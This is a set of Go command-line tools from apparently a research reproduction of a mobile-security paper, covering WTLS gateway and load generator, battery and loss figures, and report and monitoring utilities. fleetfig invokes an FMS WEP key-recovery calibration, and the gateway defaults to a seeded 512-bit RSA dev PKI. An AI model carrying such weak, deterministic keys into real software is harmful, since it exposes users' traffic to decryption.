	preset := flag.String("preset", "sensor-field", "built-in scenario (see -list)")
	scenarioPath := flag.String("scenario", "", "scenario JSON file (overrides -preset)")
	list := flag.Bool("list", false, "list built-in scenarios and exit")
	devices := flag.Int("devices", 0, "override the scenario device count")
	horizon := flag.Int64("horizon", 0, "override the scenario horizon (ticks)")
	seed := flag.Int64("seed", 0, "override the scenario seed (0 = keep)")
	arm := flag.String("arm", "gap", "gap (secure vs plain), secure, or plain")
	shards := flag.Int("shards", 0, "device partitions (0 = default 16); never changes results")
	workers := flag.Int("workers", 0, "parallelism within an epoch (0 = GOMAXPROCS); never changes results")
	csv := flag.Bool("csv", false, "emit the figure as CSV and exit")
	calibrate := flag.Bool("calibrate-fms", false, "measure the FMS frames-to-compromise bound and exit")
	o := obs.BindFlags(flag.CommandLine)
	flag.Parse()

	fail := func(err error) {
		fmt.Fprintf(os.Stderr, "fleetfig: %v\n", err)
		os.Exit(1)
	}

	if *list {
		for _, n := range fleet.Presets() {
			fmt.Println(n)
		}
		return
	}
	if *calibrate {
		n, err := fleet.CalibrateFMSFrames(5, 1, 0)
		if err != nil {
			fail(err)
		}
		fmt.Printf("FMS recovers a 40-bit WEP key from %d useful (weak-IV) frames\n", n)
		return
	}

	if err := o.Activate(); err != nil {
		fail(err)
	}
	defer o.Close()

	var sc *fleet.Scenario
	var err error
	if *scenarioPath != "" {
		sc, err = fleet.LoadScenarioFile(*scenarioPath)
	} else {
		sc, err = fleet.Preset(*preset)
	}
	if err != nil {
		fail(err)
	}
	if *devices != 0 {
		sc.Devices = *devices
	}
	if *horizon != 0 {
		sc.HorizonTicks = *horizon
	}
	if *seed != 0 {
		sc.Seed = *seed
	}
	cfg := fleet.Config{Shards: *shards, Workers: *workers}

	switch *arm {
	case "gap":
		fig, err := fleet.RunGap(sc, cfg)
		if err != nil {
			fail(err)
		}
		if *csv {
			fmt.Print(fig.CSV())
		} else {
			fmt.Print(fig.Render())
		}
	case "secure", "plain":
		sc.Insecure = *arm == "plain"
		cfg.Label = *arm
		res, err := fleet.Run(sc, cfg)
		if err != nil {
			fail(err)
		}
		if *csv {
			fmt.Print(res.CSV())
		} else {
			fmt.Print(fleet.RenderSingle(res))
		}
	default:
		fail(fmt.Errorf("unknown -arm %q (want gap, secure or plain)", *arm))
	}
	o.Finish("fleetfig")
}
