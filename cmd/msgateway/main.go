// Command msgateway serves WTLS sessions over real TCP sockets — the
// wireless-gateway half of the paper's m-commerce scenario, run as a
// long-lived concurrent server instead of a single in-memory pipe.
//
// It derives a deterministic dev PKI from -pki-seed (msload derives the
// identical CA from the same seed, so no key files change hands),
// accepts up to -max-conns concurrent sessions on a bounded worker
// pool, and echoes application records until the peer closes. SIGTERM
// or SIGINT starts a graceful drain: the listener closes, in-flight
// sessions get -drain-timeout to finish, stragglers are force-closed,
// and the process exits 0 only if the drain was fully graceful.
//
// Observability rides the standard flags (-metrics, -journal, -slo,
// -pprof …); with -pprof the live /progress endpoint reports sessions
// served, so `mswatch <addr>` can watch a soak in flight. With -dtrace
// the server adopts the trace context a tracing msload sends in its
// first application record and records its half of each sampled
// session — queue wait, handshake phases, record batches — under the
// client's span tree; per-session wide journal events carry the trace
// ID for cross-linking.
package main

import (
	"context"
	"flag"
	"fmt"
	"net"
	"os"
	"os/signal"
	"syscall"
	"time"

	"repro/internal/gateway"
	"repro/internal/obs"
	_ "repro/internal/obs/ts" // series recorder for -series
	"repro/internal/wtls"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:4433", "listen address")
	maxConns := flag.Int("max-conns", 1024, "concurrent connection cap (accept backpressure beyond it)")
	workers := flag.Int("workers", 128, "session worker pool size")
	hsTimeout := flag.Duration("handshake-timeout", 10*time.Second, "per-connection handshake deadline")
	idleTimeout := flag.Duration("idle-timeout", 30*time.Second, "established-session idle deadline")
	drainTimeout := flag.Duration("drain-timeout", 5*time.Second, "graceful-drain budget on shutdown")
	pkiSeed := flag.String("pki-seed", "mobilesec-dev", "deterministic dev PKI seed (must match msload)")
	rsaBits := flag.Int("rsa-bits", 512, "dev PKI modulus size")
	serverName := flag.String("server-name", "gw.local", "certificate subject")
	resume := flag.Bool("resume", true, "enable session resumption")
	o := obs.BindFlags(flag.CommandLine)
	flag.Parse()
	if err := o.Activate(); err != nil {
		fmt.Fprintf(os.Stderr, "msgateway: %v\n", err)
		os.Exit(1)
	}
	defer o.Close()

	_, key, cert, err := gateway.DevPKI(*pkiSeed, *serverName, *rsaBits)
	if err != nil {
		fmt.Fprintf(os.Stderr, "msgateway: %v\n", err)
		os.Exit(1)
	}
	wcfg := &wtls.Config{Certificate: cert, PrivateKey: key}
	if *resume {
		wcfg.SessionCache = wtls.NewSessionCache()
	}

	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		fmt.Fprintf(os.Stderr, "msgateway: %v\n", err)
		os.Exit(1)
	}
	srv, err := gateway.Serve(ln, gateway.Config{
		WTLS:             wcfg,
		RandSeed:         []byte(*pkiSeed + "/gateway-rand"),
		MaxConns:         *maxConns,
		Workers:          *workers,
		HandshakeTimeout: *hsTimeout,
		IdleTimeout:      *idleTimeout,
		DrainTimeout:     *drainTimeout,
	})
	if err != nil {
		fmt.Fprintf(os.Stderr, "msgateway: %v\n", err)
		os.Exit(1)
	}
	obs.SetProgressSource(srv.ProgressJSON)
	fmt.Printf("msgateway: listening on %s (max-conns %d, workers %d)\n",
		srv.Addr(), *maxConns, *workers)

	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGTERM, syscall.SIGINT)
	s := <-sig
	fmt.Printf("msgateway: %v — draining (budget %v)\n", s, *drainTimeout)

	shutdownErr := srv.Shutdown(context.Background())
	st := srv.Stats()
	fmt.Printf("msgateway: served %d sessions (%d handshakes, %d failures, peak %d active, %d forced closes)\n",
		st.SessionsDone, st.Handshakes, st.HandshakeFailures, st.PeakActive, st.ForcedCloses)
	o.Finish("msgateway")
	if shutdownErr != nil {
		fmt.Fprintf(os.Stderr, "msgateway: %v\n", shutdownErr)
		os.Exit(1)
	}
}
