// msreport turns the run artifacts the other cmds write — energy/cycle
// profiles (-profile), metric snapshots (-metrics), event traces
// (-trace), distributed span traces (-dtrace, repeatable: the msload
// and msgateway halves of a soak merge into end-to-end traces) and the
// cross-run history book — into human-facing views: a self-contained
// HTML report (inline SVG flame graphs, per-session span waterfalls
// with critical-path attribution, layer-cost tables, metric and trace
// summaries, history trend sparklines; no external assets, no scripts),
// a folded-stack text file for standard flamegraph tooling, and a
// pprof-style top table on stdout.
//
// Typical flow:
//
//	go run ./cmd/batteryfig -profile bat.prof.json > fig4.csv
//	go run ./cmd/msreport -profile bat.prof.json -html report.html -folded bat.folded
//
// Multiple -profile flags merge frame-by-frame, so a report can cover a
// whole sweep. Everything rendered is derived from the inputs alone —
// no clocks — so identical inputs yield byte-identical outputs.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"sort"
	"strings"

	"repro/internal/obs"
	"repro/internal/obs/history"
	"repro/internal/obs/journal"
	"repro/internal/obs/prof"
	"repro/internal/obs/report"
	"repro/internal/obs/ts"
)

// multiFlag collects a repeatable string flag.
type multiFlag []string

func (m *multiFlag) String() string     { return strings.Join(*m, ",") }
func (m *multiFlag) Set(s string) error { *m = append(*m, s); return nil }

// traceDoc mirrors the tracer's JSON file layout.
type traceDoc struct {
	Dropped uint64      `json:"dropped"`
	Events  []obs.Event `json:"events"`
}

func main() {
	var profiles multiFlag
	flag.Var(&profiles, "profile", "energy/cycle profile JSON to include (repeatable; multiple merge)")
	metricsPath := flag.String("metrics", "", "metrics snapshot JSON to include")
	tracePath := flag.String("trace", "", "event trace JSON to include")
	var dtraces multiFlag
	flag.Var(&dtraces, "dtrace", "distributed span trace JSONL to include (repeatable; client and server files merge into end-to-end traces)")
	journalPath := flag.String("journal", "", "structured event journal JSONL to include (SLO alert table, per-layer counts)")
	seriesPath := flag.String("series", "", "windowed metric time-series JSONL to render as a timeline panel")
	historyPath := flag.String("history", "", "cross-run history JSONL to render trends from (e.g. bench/history.jsonl)")
	htmlPath := flag.String("html", "", "write the self-contained HTML report here")
	foldedPath := flag.String("folded", "", "write folded stacks (flamegraph.pl/speedscope input) here")
	weight := flag.String("weight", "auto", "weight for folded/top views: cycles, energy or auto")
	topN := flag.Int("top", 15, "rows in the top table")
	title := flag.String("title", "mobilesec run report", "report title")
	appendHistory := flag.Bool("append-history", false, "append this run's record to the -history file")
	seed := flag.String("seed", "", "workload seed recorded in the history entry")
	commit := flag.String("commit", "", "commit recorded in the history entry (default: git HEAD)")
	flag.Parse()

	if err := run(profiles, dtraces, *metricsPath, *tracePath, *journalPath, *seriesPath, *historyPath, *htmlPath,
		*foldedPath, *weight, *topN, *title, *appendHistory, *seed, *commit); err != nil {
		fmt.Fprintln(os.Stderr, "msreport:", err)
		os.Exit(1)
	}
}

func run(profilePaths, dtracePaths []string, metricsPath, tracePath, journalPath, seriesPath, historyPath, htmlPath,
	foldedPath, weight string, topN int, title string, appendHistory bool, seed, commit string) error {
	if len(profilePaths) == 0 && len(dtracePaths) == 0 && metricsPath == "" && tracePath == "" && journalPath == "" &&
		seriesPath == "" && historyPath == "" {
		return fmt.Errorf("nothing to report: give at least one of -profile, -metrics, -trace, -dtrace, -journal, -series, -history")
	}

	var merged *prof.Profile
	if len(profilePaths) > 0 {
		loaded := make([]*prof.Profile, 0, len(profilePaths))
		for _, path := range profilePaths {
			p, err := prof.Load(path)
			if err != nil {
				return err
			}
			loaded = append(loaded, p)
		}
		merged = prof.Merge(loaded...)
	}

	var snap *obs.Snapshot
	if metricsPath != "" {
		blob, err := os.ReadFile(metricsPath)
		if err != nil {
			return err
		}
		snap = &obs.Snapshot{}
		if err := json.Unmarshal(blob, snap); err != nil {
			return fmt.Errorf("%s: %w", metricsPath, err)
		}
	}

	var events []obs.Event
	var dropped uint64
	if tracePath != "" {
		blob, err := os.ReadFile(tracePath)
		if err != nil {
			return err
		}
		var td traceDoc
		if err := json.Unmarshal(blob, &td); err != nil {
			return fmt.Errorf("%s: %w", tracePath, err)
		}
		events, dropped = td.Events, td.Dropped
	}

	// Merge every -dtrace file: the usual pair is the msload and
	// msgateway halves of one soak, which join into end-to-end traces.
	var spans []obs.SpanRec
	spansSkipped := 0
	for _, path := range dtracePaths {
		ss, skipped, err := obs.ReadSpansFile(path)
		if err != nil {
			return err
		}
		spans = append(spans, ss...)
		spansSkipped += skipped
		if skipped > 0 {
			fmt.Fprintf(os.Stderr, "msreport: %s: skipped %d malformed span line(s)\n", path, skipped)
		}
	}

	var jevents []journal.Event
	jskipped := 0
	if journalPath != "" {
		var err error
		jevents, jskipped, err = journal.LoadFile(journalPath)
		if err != nil {
			return err
		}
		if jskipped > 0 {
			fmt.Fprintf(os.Stderr, "msreport: %s: skipped %d malformed journal line(s)\n", journalPath, jskipped)
		}
	}

	var windows []ts.Window
	if seriesPath != "" {
		var err error
		windows, err = ts.ReadFile(seriesPath)
		if err != nil {
			return err
		}
	}

	if appendHistory {
		if historyPath == "" {
			return fmt.Errorf("-append-history needs -history")
		}
		if merged == nil {
			return fmt.Errorf("-append-history needs at least one -profile")
		}
		if commit == "" {
			commit = history.Commit()
		}
		if err := history.AppendUnique(historyPath, historyRecord(merged, profilePaths, seed, commit)); err != nil {
			return err
		}
	}

	var records []history.Record
	if historyPath != "" {
		var err error
		var skipped int
		records, skipped, err = history.Load(historyPath)
		if err != nil {
			return err
		}
		if skipped > 0 {
			fmt.Fprintf(os.Stderr, "msreport: %s: skipped %d malformed history record(s)\n", historyPath, skipped)
		}
	}

	by := prof.Cycles
	if merged != nil {
		var err error
		by, err = prof.ParseWeight(weight, merged)
		if err != nil {
			return err
		}
	}

	if htmlPath != "" {
		f, err := os.Create(htmlPath)
		if err != nil {
			return err
		}
		werr := report.HTML(f, report.Data{
			Title:          title,
			Profile:        merged,
			Metrics:        snap,
			TraceEvents:    events,
			TraceDropped:   dropped,
			Spans:          spans,
			SpansSkipped:   spansSkipped,
			Journal:        jevents,
			JournalSkipped: jskipped,
			Series:         windows,
			History:        records,
			TopN:           topN,
		})
		if cerr := f.Close(); werr == nil {
			werr = cerr
		}
		if werr != nil {
			return werr
		}
	}

	if foldedPath != "" {
		if merged == nil {
			return fmt.Errorf("-folded needs at least one -profile")
		}
		f, err := os.Create(foldedPath)
		if err != nil {
			return err
		}
		werr := merged.WriteFolded(f, by)
		if cerr := f.Close(); werr == nil {
			werr = cerr
		}
		if werr != nil {
			return werr
		}
	}

	if merged != nil {
		cycles, uj := merged.Totals()
		fmt.Printf("profile: %d frames, %d instr, %d µJ (top by %s)\n",
			len(merged.Frames), cycles, uj, by)
		if err := merged.WriteTop(os.Stdout, by, topN); err != nil {
			return err
		}
	}

	if len(spans) > 0 {
		trees := obs.BuildTraces(spans)
		nMerged, covered := 0, 0
		minCov := 1.0
		for i := range trees {
			if trees[i].Merged {
				nMerged++
			}
			if trees[i].Coverage >= 0.95 {
				covered++
			}
			if trees[i].Coverage < minCov {
				minCov = trees[i].Coverage
			}
		}
		// One greppable line for CI: traces reassembled, cross-process
		// merges, and how much of each session's duration the named spans
		// explain.
		fmt.Printf("dtrace: traces=%d spans=%d merged=%d coverage_ge95=%d min_coverage=%.3f\n",
			len(trees), len(spans), nMerged, covered, minCov)
		fmt.Println("critical path (self-time by span kind):")
		for _, e := range obs.CritTop(trees, topN) {
			fmt.Printf("  %10d µs  %6d×  %s\n", e.SelfUS, e.Count, e.Key)
		}
	}
	return nil
}

// historyRecord summarizes the merged profile for the record book:
// totals as headline figures plus per-top-level-frame energy.
func historyRecord(p *prof.Profile, inputs []string, seed, commit string) history.Record {
	cycles, uj := p.Totals()
	layers := map[string]int64{}
	for _, f := range p.Frames {
		top := f.Path
		if i := strings.IndexByte(top, '/'); i >= 0 {
			top = top[:i]
		}
		layers[top] += f.EnergyUJ
	}
	for k, v := range layers {
		if v == 0 {
			delete(layers, k)
		}
	}
	sorted := append([]string{}, inputs...)
	sort.Strings(sorted)
	r := history.Record{
		Date:        history.Today(),
		Source:      "msreport",
		Commit:      commit,
		GoVersion:   p.GoVersion,
		Seed:        seed,
		Fingerprint: history.Fingerprint(sorted...),
		Headline: map[string]float64{
			"profile_instr":     float64(cycles),
			"profile_energy_uj": float64(uj),
		},
	}
	if len(layers) > 0 {
		r.LayerEnergyUJ = layers
	}
	return r
}
