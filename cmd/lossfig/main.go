// Command lossfig extends the paper's Figure 4 to a lossy channel: the
// number of 1 KB transactions a 26 KJ sensor-node battery funds as the
// link bit error rate rises, with the ARQ retransmission energy itemized
// in the battery ledger. The analytic model is cross-checked by running
// real transactions through the chaos fault injector and ARQ layer.
package main

import (
	"flag"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"

	mobilesec "repro"
	"repro/internal/obs"
	_ "repro/internal/obs/ts" // series recorder for -series
	"repro/internal/par"
)

func main() {
	drop := flag.Float64("drop", 0.01, "BER-independent frame drop probability")
	bers := flag.String("bers", "", "comma-separated BER axis (default the built-in ladder)")
	simulate := flag.Bool("simulate", true, "cross-check by driving a real chaos+ARQ link")
	perPoint := flag.Int("n", 10, "transactions simulated per BER point")
	seed := flag.Int64("seed", 1, "fault-schedule seed for the simulation")
	arqPipeline := flag.Int("arq-pipeline", mobilesec.DefaultARQPipeline,
		"ARQ transmit-pipeline depth for the simulation; output is identical at any depth, <0 disables")
	csv := flag.Bool("csv", false, "emit the analytic figure as CSV and exit")
	workers := flag.Int("workers", runtime.GOMAXPROCS(0),
		"sweep worker count; output is identical at any value, 1 runs sequentially")
	o := obs.BindFlags(flag.CommandLine)
	flag.Parse()
	par.SetDefaultWorkers(*workers)
	if err := o.Activate(); err != nil {
		fmt.Fprintf(os.Stderr, "lossfig: %v\n", err)
		os.Exit(1)
	}
	defer o.Close()

	var axis []float64
	if *bers != "" {
		for _, s := range strings.Split(*bers, ",") {
			v, err := strconv.ParseFloat(strings.TrimSpace(s), 64)
			if err != nil {
				fmt.Fprintf(os.Stderr, "lossfig: bad BER %q: %v\n", s, err)
				os.Exit(2)
			}
			axis = append(axis, v)
		}
	}

	fig, err := mobilesec.ComputeLossFigure(*drop, axis)
	if err != nil {
		fmt.Fprintf(os.Stderr, "lossfig: %v\n", err)
		os.Exit(1)
	}
	if *csv {
		fmt.Print(fig.CSV())
		o.Finish("lossfig")
		return
	}
	fmt.Print(fig.Render())

	if *simulate {
		sim, err := mobilesec.SimulateLossFigure(*drop, axis, *seed, *perPoint,
			mobilesec.LossSimOptions{ARQPipeline: *arqPipeline})
		if err != nil {
			fmt.Fprintf(os.Stderr, "lossfig: %v\n", err)
			os.Exit(1)
		}
		fmt.Printf("\nchaos+ARQ link simulation cross-check (%d transactions per point, battery ledger per transaction):\n", *perPoint)
		fmt.Print(sim.Render())
	}

	fmt.Println("\ntakeaway: channel noise taxes the battery before it breaks the crypto —")
	fmt.Println("every decade of BER costs transactions, until the retry budget declares the link down")
	o.Finish("lossfig")
}
