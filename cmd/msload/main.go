// Command msload soaks a running msgateway with concurrent WTLS
// sessions over real TCP, optionally through socket-level chaos
// (silent drops, bit corruption, stalls, Gilbert–Elliott bursts), and
// reports handshakes/sec, records/sec and latency percentiles.
//
// It derives the gateway's CA from the shared -pki-seed, so pointing it
// at a gateway started with the same seed just works. Failed attempts
// are retried with capped exponential backoff and deterministic jitter;
// the whole run — client randoms, fault schedules, retry delays — is a
// pure function of -seed. Exit status: 0 on full success, 1 if any
// session exhausted its retry budget, 3 if -slo-strict tripped.
//
// With -dtrace each sampled session (-trace-sample) records a span
// tree — attempts, dials, backoff waits, handshake phases, record
// batches — and hands its trace context to the gateway in the first
// application record, so the msload and msgateway halves merge into one
// end-to-end trace in msreport. Trace IDs derive from -seed, so the
// exported structure is identical at any -concurrency (-dtrace-canon
// strips timings for byte-diffing).
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"repro/internal/chaos"
	"repro/internal/gateway"
	"repro/internal/loadgen"
	"repro/internal/obs"
	_ "repro/internal/obs/ts" // series recorder for -series
	"repro/internal/wtls"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:4433", "gateway address")
	conns := flag.Int("conns", 100, "total sessions to complete")
	concurrency := flag.Int("concurrency", 16, "closed-loop worker count")
	records := flag.Int("records", 4, "echo round-trips per session")
	payload := flag.Int("payload", 256, "bytes per record")
	burst := flag.Int("burst", 1, "records written back-to-back per round-trip (engages the batched record path)")
	seed := flag.Int64("seed", 1, "master seed for all client-side randomness")
	attempts := flag.Int("attempts", 5, "max tries per session (connect+handshake+echo)")
	dialTimeout := flag.Duration("dial-timeout", 5*time.Second, "TCP connect deadline")
	ioTimeout := flag.Duration("io-timeout", 10*time.Second, "handshake / per-record deadline")
	pkiSeed := flag.String("pki-seed", "mobilesec-dev", "deterministic dev PKI seed (must match msgateway)")
	rsaBits := flag.Int("rsa-bits", 512, "dev PKI modulus size")
	serverName := flag.String("server-name", "gw.local", "expected certificate subject")
	resume := flag.Bool("resume", false, "share a session cache across workers")

	chDrop := flag.Float64("chaos-drop", 0, "per-chunk silent drop probability")
	chCorrupt := flag.Float64("chaos-corrupt", 0, "per-chunk bit-corruption probability")
	chStallP := flag.Float64("chaos-stall-prob", 0, "per-chunk stall probability")
	chStall := flag.Duration("chaos-stall", 50*time.Millisecond, "stall duration")
	chPGB := flag.Float64("chaos-burst-pgb", 0, "Gilbert–Elliott P(good→bad); 0 disables bursts")
	chPBG := flag.Float64("chaos-burst-pbg", 0.3, "Gilbert–Elliott P(bad→good)")
	chLossBad := flag.Float64("chaos-burst-loss", 0.5, "drop probability in the bad state")
	o := obs.BindFlags(flag.CommandLine)
	flag.Parse()
	if err := o.Activate(); err != nil {
		fmt.Fprintf(os.Stderr, "msload: %v\n", err)
		os.Exit(1)
	}
	defer o.Close()

	ca, _, _, err := gateway.DevPKI(*pkiSeed, *serverName, *rsaBits)
	if err != nil {
		fmt.Fprintf(os.Stderr, "msload: %v\n", err)
		os.Exit(1)
	}
	wcfg := &wtls.Config{RootCA: &ca.Key.PublicKey, ServerName: *serverName}
	if *resume {
		wcfg.SessionCache = wtls.NewSessionCache()
	}

	var cc *chaos.ConnConfig
	if *chDrop > 0 || *chCorrupt > 0 || *chStallP > 0 || *chPGB > 0 {
		cc = &chaos.ConnConfig{
			Drop: *chDrop, Corrupt: *chCorrupt,
			StallProb: *chStallP, Stall: *chStall,
		}
		if *chPGB > 0 {
			cc.Burst = &chaos.Burst{PGoodToBad: *chPGB, PBadToGood: *chPBG, LossBad: *chLossBad}
		}
	}

	r, err := loadgen.New(loadgen.Config{
		Addr: *addr, WTLS: wcfg,
		Conns: *conns, Concurrency: *concurrency,
		Records: *records, Payload: *payload, Burst: *burst,
		Seed: *seed, Chaos: cc, Attempts: *attempts,
		DialTimeout: *dialTimeout, IOTimeout: *ioTimeout,
	})
	if err != nil {
		fmt.Fprintf(os.Stderr, "msload: %v\n", err)
		os.Exit(1)
	}
	obs.SetProgressSource(r.ProgressJSON)

	rep := r.Run()
	fmt.Printf("msload: %s\n", rep)
	if rep.Failed > 0 && r.LastErr() != nil {
		fmt.Fprintf(os.Stderr, "msload: last failure: %v\n", r.LastErr())
	}
	o.Finish("msload")
	if rep.Failed > 0 {
		os.Exit(1)
	}
}
