// Command batteryfig regenerates Figure 4 of the paper: the number of
// 1 KB transactions a 26 KJ sensor-node battery funds with and without
// RSA-based secure mode, analytically and by transaction-level simulation.
package main

import (
	"flag"
	"fmt"
	"os"

	mobilesec "repro"
	"repro/internal/obs"
	_ "repro/internal/obs/ts" // series recorder for -series
)

func main() {
	simulate := flag.Bool("simulate", true, "cross-check by draining the battery model")
	step := flag.Int("step", 100, "simulation batching (1 = exact, slower)")
	csv := flag.Bool("csv", false, "emit the figure as CSV and exit")
	o := obs.BindFlags(flag.CommandLine)
	flag.Parse()
	if err := o.Activate(); err != nil {
		fmt.Fprintf(os.Stderr, "batteryfig: %v\n", err)
		os.Exit(1)
	}
	defer o.Close()

	fig, err := mobilesec.ComputeBatteryFigure()
	if err != nil {
		fmt.Fprintf(os.Stderr, "batteryfig: %v\n", err)
		os.Exit(1)
	}
	if *csv {
		fmt.Print(fig.CSV())
		o.Finish("batteryfig")
		return
	}
	fmt.Print(fig.Render())

	if *simulate {
		sim, err := mobilesec.SimulateBatteryFigure(*step)
		if err != nil {
			fmt.Fprintf(os.Stderr, "batteryfig: %v\n", err)
			os.Exit(1)
		}
		fmt.Println("\ntransaction-level simulation cross-check:")
		for i, m := range sim.Modes {
			fmt.Printf("  %-14s simulated %8d tx (analytic %8d)\n",
				m.Name, m.Transactions, fig.Modes[i].Transactions)
		}
	}
	fmt.Printf("\npaper claim: secure-mode transactions are less than half of plain mode — measured %.2fx\n",
		fig.Modes[1].RelativeToPlain)
	o.Finish("batteryfig")
}
