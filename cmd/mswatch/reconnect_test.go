package main

import (
	"errors"
	"io"
	"strings"
	"testing"
	"time"

	"repro/internal/backoff"
)

// scriptedDial fails `failures` times, then returns streams from
// `streams` in order, then fails forever.
type scriptedDial struct {
	failures int
	streams  []string
	calls    int
}

func (d *scriptedDial) dial() (io.ReadCloser, error) {
	d.calls++
	if d.failures > 0 {
		d.failures--
		return nil, errors.New("connection refused")
	}
	if len(d.streams) == 0 {
		return nil, errors.New("connection refused")
	}
	s := d.streams[0]
	d.streams = d.streams[1:]
	return io.NopCloser(strings.NewReader(s)), nil
}

// TestStreamLoopScheduleExact pins the reconnect backoff: with a
// zero-jitter policy, consecutive failures sleep exactly Base·2^attempt
// and a successful connection restarts the schedule from Base.
func TestStreamLoopScheduleExact(t *testing.T) {
	pol := backoff.Policy{Base: 100 * time.Millisecond, Max: 400 * time.Millisecond, Factor: 2}
	var slept []time.Duration
	sleep := func(d time.Duration) { slept = append(slept, d) }

	// Script: fail, fail, stream, fail, fail, fail → give up (maxFails 3
	// reached after the stream). Expected sleeps: 100, 200 (before the
	// stream, attempts 0 and 1), then 100, 200 again (schedule reset
	// after the successful stream), then none (3rd failure = budget).
	d := &scriptedDial{failures: 2, streams: []string{"event: x\ndata: {}\n\n"}}
	ever := streamLoop(d.dial, func(sseEvent) {}, 3, pol, sleep, nil)
	if !ever {
		t.Fatal("ever=false despite a successful stream")
	}
	want := []time.Duration{
		100 * time.Millisecond, 200 * time.Millisecond,
		100 * time.Millisecond, 200 * time.Millisecond,
	}
	if len(slept) != len(want) {
		t.Fatalf("sleep schedule %v, want %v", slept, want)
	}
	for i := range want {
		if slept[i] != want[i] {
			t.Fatalf("sleep[%d] = %v, want %v (full: %v)", i, slept[i], want[i], slept)
		}
	}
	// 2 failures + 1 stream + 3 failures = 6 dials.
	if d.calls != 6 {
		t.Fatalf("dial calls = %d, want 6", d.calls)
	}
}

// TestStreamLoopCapsDelay verifies the exponential schedule saturates
// at Max rather than growing without bound.
func TestStreamLoopCapsDelay(t *testing.T) {
	pol := backoff.Policy{Base: 100 * time.Millisecond, Max: 400 * time.Millisecond, Factor: 2}
	var slept []time.Duration
	d := &scriptedDial{failures: 100}
	ever := streamLoop(d.dial, func(sseEvent) {}, 6, pol,
		func(dl time.Duration) { slept = append(slept, dl) }, nil)
	if ever {
		t.Fatal("never connected but ever=true")
	}
	want := []time.Duration{
		100 * time.Millisecond, 200 * time.Millisecond, 400 * time.Millisecond,
		400 * time.Millisecond, 400 * time.Millisecond,
	}
	if len(slept) != len(want) {
		t.Fatalf("sleep schedule %v, want %v", slept, want)
	}
	for i := range want {
		if slept[i] != want[i] {
			t.Fatalf("sleep[%d] = %v, want %v", i, slept[i], want[i])
		}
	}
}

// TestStreamLoopNoReconnectMode: maxFails 0 restores the old behavior —
// the first stream end is final and no sleeps happen.
func TestStreamLoopNoReconnectMode(t *testing.T) {
	d := &scriptedDial{streams: []string{"event: x\ndata: {}\n\n", "event: y\ndata: {}\n\n"}}
	slept := 0
	ever := streamLoop(d.dial, func(sseEvent) {}, 0, backoff.Policy{},
		func(time.Duration) { slept++ }, nil)
	if !ever || d.calls != 1 || slept != 0 {
		t.Fatalf("ever=%v calls=%d slept=%d, want true/1/0", ever, d.calls, slept)
	}
}

// TestStreamLoopDeliversEvents confirms reconnection is transparent to
// the event consumer: frames from both connections arrive in order.
func TestStreamLoopDeliversEvents(t *testing.T) {
	d := &scriptedDial{streams: []string{
		"event: journal\ndata: one\n\n",
		"event: journal\ndata: two\n\n",
	}}
	var got []string
	streamLoop(d.dial, func(ev sseEvent) { got = append(got, ev.data) }, 2,
		backoff.Policy{Base: time.Millisecond}, func(time.Duration) {}, nil)
	if len(got) != 2 || got[0] != "one" || got[1] != "two" {
		t.Fatalf("events across reconnect: %v", got)
	}
}
