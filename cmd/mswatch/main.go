// Command mswatch follows a running tool's observability server (the
// -pprof endpoint any cmd in this repo exposes) from another terminal:
// it streams the /events SSE feed — journal events and SLO alerts — and
// polls /progress for live sweep status, rendering both as plain lines
// so it works over a pipe as well as a terminal.
//
// When the stream drops (the watched tool restarted, the network
// blipped), mswatch reconnects with capped exponential backoff instead
// of dying — the natural behavior for a monitor pointed at a gateway
// that is itself being chaos-tested. It gives up after -reconnect
// consecutive failures; exit status is 0 if it ever connected.
//
// Typical use:
//
//	msgateway -pprof localhost:6060 &
//	mswatch -addr localhost:6060
package main

import (
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"time"

	"repro/internal/backoff"
	"repro/internal/obs"
	"repro/internal/obs/journal"
)

func main() {
	addr := flag.String("addr", "localhost:6060", "obs server address (host:port) of the tool to watch")
	level := flag.String("level", "info", "minimum journal level to print: debug, info, warn or crit")
	progEvery := flag.Duration("progress-interval", 500*time.Millisecond, "sweep progress poll period (0 disables)")
	reconnect := flag.Int("reconnect", 10, "consecutive connection failures before giving up (0 = exit when the stream first ends)")
	verbose := flag.Bool("v", false, "also print metric deltas and the connection handshake")
	promOnce := flag.Bool("prom", false, "one-shot: fetch /metrics.prom, validate the exposition text, print a family summary, exit")
	flag.Parse()

	if *promOnce {
		if err := checkProm("http://" + *addr); err != nil {
			fmt.Fprintf(os.Stderr, "mswatch: -prom: %v\n", err)
			os.Exit(1)
		}
		return
	}

	min, err := journal.ParseLevel(*level)
	if err != nil {
		fmt.Fprintf(os.Stderr, "mswatch: -level: %v\n", err)
		os.Exit(2)
	}
	v := &view{w: os.Stdout, min: min, verbose: *verbose}

	base := "http://" + *addr
	stopProgress := make(chan struct{})
	if *progEvery > 0 {
		go pollProgress(base, *progEvery, v, stopProgress)
	}

	ever := streamLoop(
		func() (io.ReadCloser, error) { return dialEvents(base) },
		v.handle,
		*reconnect,
		backoff.Policy{Base: 200 * time.Millisecond, Max: 10 * time.Second, Seed: time.Now().UnixNano()},
		nil,
		func(msg string) { fmt.Fprintf(os.Stderr, "mswatch: %s\n", msg) },
	)
	close(stopProgress)
	if !ever {
		os.Exit(1)
	}
	// The watched tool went away for good — normal end.
}

// checkProm fetches the Prometheus exposition endpoint once, runs it
// through the strict parser, and prints one line per metric family.
// Any malformed line fails the whole check — CI uses this as the
// format gate for /metrics.prom.
func checkProm(base string) error {
	resp, err := http.Get(base + "/metrics.prom")
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("%s/metrics.prom: %s", base, resp.Status)
	}
	families, err := obs.ParseProm(io.LimitReader(resp.Body, 8<<20))
	if err != nil {
		return err
	}
	samples := 0
	for _, f := range families {
		fmt.Printf("%s %s: %d sample(s)\n", f.Type, f.Name, len(f.Samples))
		samples += len(f.Samples)
	}
	fmt.Printf("ok: %d families, %d samples\n", len(families), samples)
	return nil
}

// dialEvents opens the /events SSE stream.
func dialEvents(base string) (io.ReadCloser, error) {
	resp, err := http.Get(base + "/events")
	if err != nil {
		return nil, err
	}
	if resp.StatusCode != http.StatusOK {
